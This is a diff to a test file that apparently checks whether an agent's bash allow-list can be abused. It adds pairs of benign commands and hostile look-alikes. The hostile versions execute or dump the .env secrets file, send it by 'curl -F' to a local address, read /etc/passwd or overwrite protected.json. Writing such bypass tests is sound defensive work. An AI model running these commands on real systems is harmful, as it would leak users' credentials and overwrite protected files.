@@ -43,6 +43,23 @@ const OPERANDS: readonly Pair[] = [
   ['diff a.txt a.txt', 'diff --from-file=/etc/passwd a.txt'],
   ['find . -maxdepth 1 -name a.txt', 'find . -maxdepth 0 {-exec,marker,\\;}'],
 ]
+const NAMED_FILES: readonly Pair[] = [
+  ['bash quiet.sh', 'bash -v .env'],
+  ['sh ./quiet.sh', 'sh .env'],
+  ['node quiet.cjs', 'node .env'],
+  ['git config -f a.cfg --list', 'git config -f .env --list'],
+  ['git hash-object a.txt', 'git blame --contents .env a.txt'],
+  ['git grep -h a', 'git grep --no-index KEY .env'],
+  ['tar -cf - a.txt', 'tar -cf - -T list'],
+  ['base32 a.txt', 'base32 .env'],
+  ['sort -k1 a.txt', 'sort --random-source=.env a.txt'],
+  ['shuf a.txt', 'shuf -o protected.json a.txt'],
+  ['xargs -a quiet.sh echo', 'xargs -a .env echo'],
+  ["find . -maxdepth 1 -name a.txt -printf '%p'", 'find . -maxdepth 1 -fprintf protected.json %p'],
+  ['curl --version', 'curl -s file://$PWD/.env'],
+  ['curl -V', 'curl -s -F x=@.env http://127.0.0.1:9'],
+  ['openssl version', 'openssl base64 -in .env'],
+]
 const DESCRIPTORS: readonly Pair[] = [
   ['echo hello >&2', 'echo replaced 8<protected.json >/dev/fd/8'],
   ['cat /dev/stdin < a.txt', 'echo replaced 1<protected.json >/dev/stdout'],
@@ -61,12 +78,13 @@ const NAMES: readonly Pair[] = [
 ]
 
 /** A careful user: what only reads may run. */
-const READERS = 'ls cat echo grep diff find xargs printf let declare export read exec true'.split(' ')
+const READERS =
+  'bash sh node tar base32 sort shuf curl openssl ls cat echo grep diff find xargs printf let declare export read exec true'.split(' ')
 const permission = {
   bash: {
     '*': 'ask',
     ...Object.fromEntries(
-      [...READERS, 'git status', 'git log'].flatMap((name) => [
+      [...READERS, 'git status', 'git log', 'git config', 'git hash-object', 'git blame', 'git grep'].flatMap((name) => [
         [name, 'allow'],
         [`${name} *`, 'allow'],
       ]),
@@ -90,6 +108,9 @@ function bait(): string[] {
   symlinkSync(join(repo, 'ls sub'), join(root, 'bin/ls sub'))
   write('hostile', 'a[$(marker)]\n')
   write('entries', '([a[$(marker)]]=1)\n')
+  write('quiet.sh', 'true\n')
+  write('quiet.cjs', '')
+  write('a.cfg', '[a]\n\tb = c\n')
   write('list', '/etc/passwd\n')
   write('names', 'sub\n')
   write('protected.json', 'kept\n')
@@ -100,6 +121,7 @@ function bait(): string[] {
 test.each([
   ['arithmetic', ARITHMETIC],
   ['operands', OPERANDS],
+  ['named files', NAMED_FILES],
   ['descriptors', DESCRIPTORS],
   ['the environment', ENVIRONMENT],
   ['names', NAMES],
